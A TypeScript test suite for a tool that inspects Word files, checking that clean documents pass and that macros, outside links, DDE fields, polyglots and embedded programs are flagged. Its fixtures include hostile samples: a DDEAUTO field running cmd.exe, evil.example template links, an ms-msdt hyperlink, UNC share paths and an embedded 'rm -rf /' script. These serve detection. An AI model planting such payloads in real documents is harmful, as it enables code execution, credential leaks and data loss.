import { randomBytes } from 'node:crypto';
import { demoWord } from '../../../seeds/demo/word.js';
import { plainPdf } from '../../support/pdf.js';
import { documentOf, relationsTo, typesFor, wordParts, zipOf } from '../samples.js';
import { oleOf, PROGRAM, packageOf } from './ole-samples.js';
import { checking, relationOf } from './support.js';

const { word, inspect } = await checking();
const zipped = async (parts: Record<string, string | Buffer>, name?: string) => word(await zipOf(parts), name);
const withDocument = (inner: string) => zipped(wordParts(documentOf(inner)));
const withPart = (name: string, data: Buffer | string) => zipped({ ...wordParts(), [name]: data });
const withRelation = (type: string, target: string, mode?: string) =>
  withPart('word/_rels/document.xml.rels', relationOf(type, target, mode));
const sample = demoWord('年度工作计划', ['一、总体要求', 'Plan <2027> & "more"']);
const theme = await zipOf({ '[Content_Types].xml': '<Types/>', 'theme/theme/theme1.xml': '<theme/>' });
const PICTURE = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
const samplePdf = await plainPdf(['x']);

describe('an honest Word file', () => {
  it('is the demonstration one, the same bytes each time, whatever its name', async () => {
    const found = await inspect(sample, 'WORD', '../../٢٠٢٧ تقرير\u202excod.年度计划.pdf');
    expect(found).toMatchObject({ findings: [], pageCount: null, hasText: null, signatures: [] });
    expect(found.sketch!.length).toBeGreaterThan(8);
    expect(demoWord('年度工作计划', ['一、总体要求', 'Plan <2027> & "more"']).equals(sample)).toBe(true);
    expect(await word(demoWord('\0\ud800\u001b]]>', []), 'a.wps')).toEqual([]);
  });

  it('may be compressed, have another main part, another prefix, the strict namespace or UTF-16', async () => {
    expect(await zipped(wordParts())).toEqual([]);
    expect(
      await zipped({
        '[Content_Types].xml': typesFor(undefined, '/word/document2.xml'),
        '_rels/.rels': relationsTo('/word/document2.xml'),
        'Word/Document2.xml': documentOf(''),
        'docProps/thumbnail.jpeg': randomBytes(10_000),
      }),
    ).toEqual([]);
    const strict = '<document xmlns="http://purl.oclc.org/ooxml/wordprocessingml/main"><body/></document>';
    expect(await zipped(wordParts(strict))).toEqual([]);
    expect(await zipped(wordParts(Buffer.from(`\ufeff${documentOf('<w:p/>')}`, 'utf16le')))).toEqual([]);
    expect(await zipped(wordParts(`\ufeff${documentOf('')}`))).toEqual([]);
    const { '_rels/.rels': _, ...usual } = wordParts();
    expect(await zipped(usual)).toEqual([]);
  });

  it('may hold comments, CDATA, brackets in attributes, a picture as one long attribute, and much text', async () => {
    const picture = `<v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:o" o:gfxdata='${'A>"b'.repeat(500_000)}'/>`;
    const inner = `<!-- <w:x> --><w:p a="1>2"><![CDATA[ </w:p> ]]>${picture}</w:p><?pi > ?>`;
    expect(await withDocument(inner)).toEqual([]);
    expect(await withDocument('<w:p><w:r><w:t>年度</w:t></w:r></w:p>'.repeat(100_000))).toEqual([]);
  });

  it('may embed a spreadsheet, fonts and pictures, link to pages, and have lost a picture', async () => {
    const sheet = await zipOf({
      '[Content_Types].xml': typesFor('x', '/xl/workbook.xml'),
      'xl/workbook.xml': '<workbook/>',
    });
    expect(await withPart('word/embeddings/Microsoft_Excel_Sheet.xlsx', sheet)).toEqual([]);
    expect(await withPart('word/embeddings/oleObject1.bin', oleOf({ Workbook: randomBytes(5_000) }))).toEqual([]);
    expect(await withPart('word/media/image1.png', Buffer.from('89504e470d0a1a0a', 'hex'))).toEqual([]);
    expect(await withRelation('hyperlink', 'https://www.hunan.gov.cn/')).toEqual([]);
    expect(await withRelation('hyperlink', 'mailto:a@b.cn')).toEqual([]);
    expect(await withRelation('image', 'NULL')).toEqual([]);
    expect(await withRelation('image', 'media/image1.png', '')).toEqual([]);
    expect(await withDocument('<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/>')).toEqual([]);
    expect(await withDocument('<w:fldSimple w:instr=" HYPERLINK &quot;https://a.cn&quot; "/>')).toEqual([]);
    expect(
      await withDocument('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;C:\\\\x\\\\y.png&quot; \\* MERGEFORMATINET "/>'),
    ).toEqual([]);
  });
});

describe('what is no .docx', () => {
  it.each([
    ['nothing', Buffer.alloc(0), 'a.docx', ['EMPTY']],
    ['a PDF', samplePdf, 'a.docx', ['WRONG_TYPE']],
    ['a PDF named .wps', samplePdf, 'a.wps', ['WRONG_TYPE']],
    ['a page', Buffer.from('<html>报告</html>'), 'a.docx', ['WRONG_TYPE']],
    ['a page named .doc, as old systems export', Buffer.from('<html>报告</html>'), '报告.DOC', ['LEGACY_WORD']],
    ['a picture', PICTURE, 'a.docx', ['WRONG_TYPE']],
    ['a program', PROGRAM, 'a.wps', ['WRONG_TYPE']],
    ['bytes', Buffer.from('年度工作'), 'a.docx', ['WRONG_TYPE']],
    ['bytes named .wps', Buffer.from([1, 2, 3, 4]), 'a.wps', ['WPS_FORMAT']],
    ['RTF named .doc', Buffer.from('{\\rtf1\\ansi x}'), 'a.doc', ['LEGACY_WORD']],
    [
      'Word 2003 XML',
      Buffer.from('<?xml version="1.0"?><?mso-application progid="Word.Document"?><w/>'),
      'a.xml',
      ['LEGACY_WORD'],
    ],
    ['.doc', oleOf({ WordDocument: 'x', '1Table': 'y' }), 'a.docx', ['LEGACY_WORD']],
    ['.doc with macros', oleOf({ WordDocument: 'x', _VBA_PROJECT: 'y' }), 'a.doc', ['LEGACY_WORD', 'MACROS']],
    [
      '.doc with a password',
      oleOf({ WordDocument: Buffer.from('eca5c1000000000000000001', 'hex') }),
      'a.doc',
      ['LEGACY_WORD', 'ENCRYPTED'],
    ],
    ['.wps', oleOf({ WordDocument: 'x' }), '计划.wps', ['WPS_FORMAT']],
    ['Microsoft Works', oleOf({ MatOST: 'x', CONTENTS: 'y' }), 'a.docx', ['WPS_FORMAT']],
    ['.doc with a theme', oleOf({ WordDocument: 'x', '1Table': theme }), 'a.docx', ['LEGACY_WORD']],
    ['.doc with a document behind it', Buffer.concat([oleOf({ WordDocument: 'x' }), theme]), 'a.doc', ['LEGACY_WORD']],
    ['.wps with a theme', oleOf({ WordDocument: 'x', '1Table': theme }), 'a.wps', ['WPS_FORMAT']],
    ['RTF with a theme as bytes', Buffer.concat([Buffer.from('{\\rtf1\\bin9 '), theme]), 'a.doc', ['LEGACY_WORD']],
    ['.xls', oleOf({ Workbook: 'x' }), 'a.doc', ['WRONG_TYPE']],
    ['.xls with a theme', oleOf({ Workbook: theme }), 'a.docx', ['WRONG_TYPE']],
    ['a picture with a document behind it', Buffer.concat([PICTURE, theme]), 'a.docx', ['WRONG_TYPE', 'POLYGLOT']],
    ['a .docx with a password', oleOf({ EncryptionInfo: 'x', EncryptedPackage: theme }), 'a.docx', ['ENCRYPTED']],
    [
      'a broken container',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(3_000, 7)]),
      'a.docx',
      ['WRONG_TYPE'],
    ],
    ['a container that goes in circles', circular(), 'a.doc', ['LEGACY_WORD']],
  ])('is named for what it is: %s', async (_, bytes, name, findings) => {
    expect(await word(bytes, name)).toEqual(findings);
  });

  it('may be another Office file, an OpenDocument, or any zip', async () => {
    expect(await zipped({ 'a.txt': 'x' })).toEqual(['WRONG_TYPE']);
    expect(await zipped({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<x/>' })).toEqual([
      'WRONG_TYPE',
    ]);
    const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
    const parts = {
      '[Content_Types].xml': typesFor(sheet, '/xl/workbook.xml'),
      '_rels/.rels': relationsTo('xl/workbook.xml'),
    };
    expect(await zipped({ ...parts, 'xl/workbook.xml': '<workbook/>' })).toEqual(['WRONG_TYPE']);
  });
});

describe('a Word file with something in it', () => {
  it('has macros', async () => {
    const typed = typesFor('application/vnd.ms-word.document.macroEnabled.main+xml');
    expect(await zipped({ ...wordParts(), '[Content_Types].xml': typed })).toEqual(['MACROS']);
    expect(await withPart('word/VBAproject.bin', oleOf({ dir: 'x' }))).toEqual(['MACROS']);
    expect(await withPart('word/embeddings/sheet.xlsm', await zipOf({ 'xl/vbaProject.bin': 'x' }))).toEqual(['MACROS']);
    expect(await withRelation('x/vbaProject', 'hidden.bin', '')).toEqual(['MACROS']);
  });

  it.each([
    ['attachedTemplate', 'http://evil.example/t.dotm'],
    ['image', 'https://track.example/p.png'],
    ['frame', 'file:///\\\\host\\share\\a.html'],
    ['oleObject', 'http://evil.example/x.html!'],
    ['subDocument', '\\\\host\\share\\b.docx'],
    ['aFChunk', 'http://evil.example/c.html'],
    ['hyperlink', 'ms-msdt:/id PCWDiagnostic'],
    ['hyperlink', 'java\nscript:alert(1)'],
  ])('draws on an outside %s: %s', async (type, target) => {
    expect(await withRelation(type, target)).toEqual(['EXTERNAL_LINK']);
  });

  it.each([
    '<w:fldSimple w:instr=" ddeauto c:\\\\windows\\\\cmd.exe &quot;/k&quot; "/>',
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>E excel a b</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>IF "a" = "</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO x y</w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/></w:r>',
    '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE never ends</w:instrText></w:r>',
    '<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://a.example/x.png&quot; \\d"/>',
    '<w:fldSimple w:instr="INCLUDETEXT &quot;\\\\\\\\host\\\\share\\\\x.docx&quot;"/>',
    '<w:fldSimple w:instr="LINK Excel.Sheet.12 &quot;C:\\\\a.xlsx&quot; a"/>',
    '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://a.example/x.png"/>',
  ])('has a field that fetches: %s', async (inner) => {
    expect(await withDocument(inner)).toEqual(['EXTERNAL_LINK']);
    const header = documentOf(inner).replaceAll('w:document', 'w:hdr');
    expect(await withPart('word/header1.xml', header)).toEqual(['EXTERNAL_LINK']);
  });

  it.each([
    ['a program', 'word/embeddings/oleObject1.bin', packageOf('报告.pdf', PROGRAM)],
    ['a program by its name alone', 'word/embeddings/oleObject1.bin', packageOf('report.pdf.scr', Buffer.from('x'))],
    ['a script', 'word/embeddings/oleObject1.bin', packageOf('a.txt', Buffer.from('#!/bin/sh\nrm -rf /'))],
    ['a part that is a program', 'word/media/image1.png', PROGRAM],
    ['an ELF as a font', 'word/fonts/font1.odttf', Buffer.from('7f454c4602010100', 'hex')],
    ['a Mach-O', 'word/a.dat', Buffer.from('cffaedfe07000001', 'hex')],
    ['a batch file', 'word/embeddings/run.bat', Buffer.from('dir')],
    ['a shortcut', 'word/embeddings/a.bin', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
    [
      'an installer',
      'word/embeddings/a.bin',
      oleOf({ x: 'y' }, Buffer.from('84100c0000000000c000000000000046', 'hex')),
    ],
    ['a page with a script', 'word/afchunk.htm', Buffer.from('<html><script>x</script></html>')],
    ['a program that calls itself XML', 'word/theme/theme1.xml', PROGRAM],
  ])('embeds %s', async (_, name, data) => {
    expect(await withPart(name, data)).toEqual(['EMBEDDED_EXECUTABLE']);
  });

  it('has all of it at once, and everything is said', async () => {
    const parts = {
      ...wordParts(documentOf('<w:fldSimple w:instr="DDE a b"/>')),
      'word/vbaProject.bin': 'x',
      'word/embeddings/a.exe': PROGRAM,
    };
    const archive = Buffer.concat([await zipOf(parts), Buffer.from('%PDF-1.7 trailing')]);
    expect(await word(archive)).toEqual(['MACROS', 'EXTERNAL_LINK', 'EMBEDDED_EXECUTABLE', 'POLYGLOT']);
  });
});

/** Every sector is its own successor. */
function circular(): Buffer {
  const file = Buffer.from(oleOf({ WordDocument: 'x' }));
  for (let i = 1; i < 128; i++) file.writeUInt32LE(i, 512 + i * 4);
  return file;
}
